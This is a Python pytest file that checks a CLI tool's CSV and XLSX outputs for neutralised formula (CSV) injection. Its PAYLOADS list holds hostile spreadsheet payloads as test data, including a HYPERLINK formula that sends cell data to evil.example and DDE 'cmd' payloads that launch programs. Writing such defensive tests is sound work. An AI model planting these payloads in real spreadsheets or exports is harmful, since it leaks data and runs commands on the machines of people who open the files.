"""Formula injection (CSV injection) is neutralised in every CSV/XLSX batchgs writes: export writers,
errors.csv/errors.xlsx, success.csv, templates, export files and opt-out receipts. `--raw` opts out
where the CLI offers it. Parquet and JSONL are data formats read by programs, not spreadsheets: their
values are kept exactly (documented in SECURITY.md)."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest

from batchgs.io.write.formats import open_writer
from batchgs.io.write.safe_cells import FORMULA_TRIGGERS, is_formula_like, neutralise
from tests.cli.cli_helpers import run_cli
from tests.security.sec_helpers import PX_KEY, read_csv, write_table

# one payload per trigger, as attackers write them
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["-12.5", "+42", "plain text", "a=b", ""]


def test_every_trigger_is_covered() -> None:
    assert {p[0] for p in PAYLOADS} == set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(is_formula_like(p) for p in PAYLOADS)
    assert not any(is_formula_like(h) for h in HARMLESS)


def _assert_csv_safe(path: Path, *, raw: bool = False) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [c for row in rows for c in row]
    dangerous = [c for c in cells if is_formula_like(c)]
    if raw:
        assert dangerous, "--raw keeps the cells as they are"
    else:
        assert dangerous == [], dangerous
    return rows


def _xlsx_cells(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path, read_only=True)
    try:
        return [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    finally:
        book.close()


def _xlsx_text_cells(path: Path) -> list[tuple[str, bool]]:
    """Every text cell with its quotePrefix style (the xlsx guard: the value itself stays exact)."""
    book = openpyxl.load_workbook(path)
    try:
        return [
            (c.value, bool(c.quotePrefix))
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
    finally:
        book.close()


def _assert_report_xlsx_safe(path: Path) -> None:
    """errors.xlsx is errors.csv as a workbook: its cells carry the CSV's `'` (all text cells)."""
    with zipfile.ZipFile(path) as book:
        xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert not re.search(rb"<f[ >]", xml), "a formula element in a worksheet"
    texts = [c for c in _xlsx_cells(path) if isinstance(c, str)]
    assert [c for c in texts if is_formula_like(c)] == []


def _assert_xlsx_safe(path: Path, *, raw: bool = False) -> None:
    with zipfile.ZipFile(path) as book:
        xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert not re.search(rb"<f[ >]", xml), "a formula element in a worksheet"
    formula_like = [(text, quoted) for text, quoted in _xlsx_text_cells(path) if is_formula_like(text)]
    assert formula_like, "the file holds the payloads as text"
    if raw:
        assert not any(quoted for _, quoted in formula_like), "--raw keeps the cells as they are"
    else:
        unguarded = [text for text, quoted in formula_like if not quoted]
        assert unguarded == [], unguarded
    assert not any(text.startswith("'") for text, _ in _xlsx_text_cells(path)), "no visible quote"


# -- the export writers ------------------------------------------------------------------------------
def _records() -> list[dict[str, Any]]:
    return [
        {"id": f"=id{i}", "name": payload, "nested": {"note": payload}, "score": -3.5, "flag": True}
        for i, payload in enumerate([*PAYLOADS, *HARMLESS])
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_spreadsheet_writers_neutralise_cells_and_headers(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"out{suffix}"
    columns = ["id", "name", "nested.note", "score", "flag", "=HEADER()"]
    with open_writer(out, columns, id_columns=["id"]) as writer:
        writer.write_batch(_records())
        writer.write_batch([{"id": "late", "+late_column": "@late"}])  # a late column and value
    if suffix == ".csv":
        rows = _assert_csv_safe(out)
        assert rows[0][-2:] == ["'=HEADER()", "'+late_column"]
        assert [r[1] for r in rows[1:7]] == [neutralise(p) for p in PAYLOADS]
        assert [r[3] for r in rows[1:3]] == ["-3.5", "-3.5"]  # numbers stay numbers
    else:
        _assert_xlsx_safe(out)
        cells = _xlsx_cells(out)
        assert "=HEADER()" in cells and PAYLOADS[0] in cells and -3.5 in cells


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_raw_keeps_the_text(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"raw{suffix}"
    with open_writer(out, ["id", "name"], raw=True) as writer:
        writer.write_batch(_records())
    if suffix == ".csv":
        rows = _assert_csv_safe(out, raw=True)
        assert [r[1] for r in rows[1:7]] == PAYLOADS
    else:
        _assert_xlsx_safe(out, raw=True)


@pytest.mark.parametrize("suffix", [".parquet", ".jsonl"])
def test_data_formats_keep_values_exactly(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"data{suffix}"
    with open_writer(out, ["id", "name"]) as writer:
        writer.write_batch(_records())
    if suffix == ".parquet":
        names = pq.read_table(out).column("name").to_pylist()
    else:
        names = [json.loads(line)["name"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert names[: len(PAYLOADS)] == PAYLOADS


# -- the run folder's reports and the templates ----------------------------------------------------
HEADERS = ["identifyId", "email", "firstName", "lastName", "signUpDate"]


def _hostile_users() -> list[list[str]]:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        uid = ["@u", "+u", "-u", "=u"][i % 4] + str(i)
        rows.append([uid, f"u{i}@example.com", payload.strip("\t\r") or "x", payload, "2024-01-01"])
        rows.append([f"{uid}bad", f"v{i}@example.com", "Ann", payload, "not a date"])  # invalid
    return rows


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_errors_and_success_reports_are_neutralised(sandbox_factory, tmp_path: Path, suffix: str) -> None:
    sandbox = sandbox_factory(api_key=PX_KEY, rate_limit=0)
    users = write_table(tmp_path / f"users{suffix}", HEADERS, _hostile_users())
    run_dir = tmp_path / "run"
    env = {
        "GAINSIGHT_PX_API_KEY": PX_KEY,
        "GAINSIGHT_PX_BASE_URL": sandbox.url,
        "GAINSIGHT_PX_PRODUCT_KEY": "AP-TEST-1",
        "BATCHGS_STATE_DIR": str(tmp_path / "state"),
    }
    result = run_cli(["import", "users", str(users), "--run-dir", str(run_dir), "-q"], env)
    assert result.exit_code == 1, result.output
    assert len(sandbox.store.users) == len(PAYLOADS)  # the values were sent as they are
    assert sandbox.store.users["=u3"]["lastName"] == PAYLOADS[3]
    errors = _assert_csv_safe(run_dir / "errors.csv")
    success = _assert_csv_safe(run_dir / "success.csv")
    assert len(errors) == 1 + len(PAYLOADS) and len(success) == 1 + len(PAYLOADS)
    assert {r["identifyId"] for r in read_csv(run_dir / "success.csv")} >= {"'@u0", "'+u1", "'-u2", "'=u3"}
    if suffix == ".xlsx":
        _assert_report_xlsx_safe(run_dir / "errors.xlsx")
    # validate writes the same kind of report
    report = tmp_path / "validate" / "errors.csv"
    checked = run_cli(
        ["validate", "users", str(users), "--report", str(report), "--offline", "--product-key", "AP-1"], {}
    )
    assert checked.exit_code == 1, checked.output
    _assert_csv_safe(report)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_templates_are_neutralised(tmp_path: Path, suffix: str) -> None:
    for entity in ("users", "accounts", "events", "preferences", "ctas", "cs-events"):
        out = tmp_path / f"{entity}{suffix}"
        assert run_cli(["template", entity, "-o", str(out)], {}).exit_code == 0
        if suffix == ".csv":
            _assert_csv_safe(out)
            continue
        # xlsx: the example must stay the literal value to send, so formula-like text is kept in a
        # text cell formatted as text (`@`): Excel shows it, and keeps it text when edited
        book = openpyxl.load_workbook(out)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (entity, cell.coordinate)
                    if isinstance(cell.value, str) and is_formula_like(cell.value):
                        assert cell.data_type == "s" and cell.number_format == "@", (entity, cell.coordinate)


# -- export files and opt-out receipts ---------------------------------------------------------------
def _seed_hostile_users(sandbox: Any) -> None:
    for i, payload in enumerate(PAYLOADS):
        uid = f"=U{i}"
        sandbox.store.users[uid] = {
            "identifyId": uid,
            "email": f"u{i}@example.com",
            "firstName": payload,
            "lastName": "@last",
            "propertyKeys": ["AP-TEST-1"],
        }


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_files_are_neutralised_unless_raw(sandbox_factory, tmp_path: Path, suffix: str) -> None:
    sandbox = sandbox_factory(api_key=PX_KEY, rate_limit=0)
    sandbox.call(lambda: _seed_hostile_users(sandbox))
    env = {
        "GAINSIGHT_PX_API_KEY": PX_KEY,
        "GAINSIGHT_PX_BASE_URL": sandbox.url,
        "BATCHGS_STATE_DIR": str(tmp_path / "state"),
    }
    safe, raw = tmp_path / f"users{suffix}", tmp_path / f"users-raw{suffix}"
    for out, extra in ((safe, []), (raw, ["--raw"])):
        done = run_cli(
            ["export", "users", "-o", str(out), "--run-dir", str(tmp_path / out.stem), "-q", *extra], env
        )
        assert done.exit_code == 0, done.output
    if suffix == ".csv":
        rows = _assert_csv_safe(safe)
        assert len(rows) == 1 + len(PAYLOADS)
        _assert_csv_safe(raw, raw=True)
    else:
        _assert_xlsx_safe(safe)
        _assert_xlsx_safe(raw, raw=True)


def test_optout_receipts_are_neutralised(sandbox_factory, tmp_path: Path) -> None:
    sandbox = sandbox_factory(api_key=PX_KEY, rate_limit=0)
    sandbox.call(lambda: _seed_hostile_users(sandbox))
    people = write_table(
        tmp_path / "list.csv",
        ["identifyId", "email"],
        [["=U0", ""], ["+U1", ""], ["", "@nobody@example.com"], ["-U2", ""]],
    )
    run_dir = tmp_path / "optout"
    env = {
        "GAINSIGHT_PX_API_KEY": PX_KEY,
        "GAINSIGHT_PX_BASE_URL": sandbox.url,
        "BATCHGS_STATE_DIR": str(tmp_path / "state"),
    }
    done = run_cli(["optout", str(people), "--run-dir", str(run_dir), "--yes", "-q"], env)
    assert done.exit_code in (0, 1), done.output
    receipts = [p for p in run_dir.iterdir() if p.suffix == ".csv"]
    assert any(p.name == "receipt.csv" for p in receipts)
    for path in receipts:
        _assert_csv_safe(path)
    assert "'=U0" in (run_dir / "receipt.csv").read_text(encoding="utf-8")
